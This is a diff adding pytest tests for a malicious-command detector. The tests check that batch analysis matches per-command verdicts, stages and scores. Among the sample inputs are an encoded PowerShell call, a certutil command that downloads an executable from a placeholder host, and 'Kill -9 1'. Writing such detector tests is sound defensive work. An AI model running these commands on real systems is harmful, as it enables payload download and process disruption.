@@ -0,0 +1,30 @@
+import pandas as pd
+from batch import analyze_commands
+from detector import analyze_command
+
+
+def test_batch_matches_analyze_command():
+    df = pd.read_csv("data/cmd_huge_known_commented_updated.csv").dropna(subset=["prompt", "Label"])
+    commands = pd.concat([df["prompt"], df["prompt"].head(50)], ignore_index=True)
+
+    results = analyze_commands(commands)
+    assert len(results) == len(commands)
+    for cmd, verdict, reason in zip(commands, results["verdict"], results["reason"]):
+        expected = analyze_command(cmd)
+        assert (verdict, reason) == (expected["verdict"], expected["reason"])
+
+
+def test_batch_stages_and_scores():
+    results = analyze_commands(["powershell -enc aGVsbG8=", "ping 8.8.8.8"])
+    assert list(results["stage"]) == ["rule", "behavior"]
+    assert pd.isna(results["score"].iloc[0])
+    assert results["score"].iloc[1] < 0.3
+
+
+def test_batch_chunks_and_edge_tokens():
+    commands = ["echo hello world", "ECHO  Hello\tWorld", "Kill -9 1", "", "   ",
+                "certutil -urlcache -f http://x/a.exe", "ping 8.8.8.8", "echo hello world"]
+    results = analyze_commands(commands, chunk_size=3)
+    for cmd, verdict, reason in zip(commands, results["verdict"], results["reason"]):
+        expected = analyze_command(cmd)
+        assert (verdict, reason) == (expected["verdict"], expected["reason"])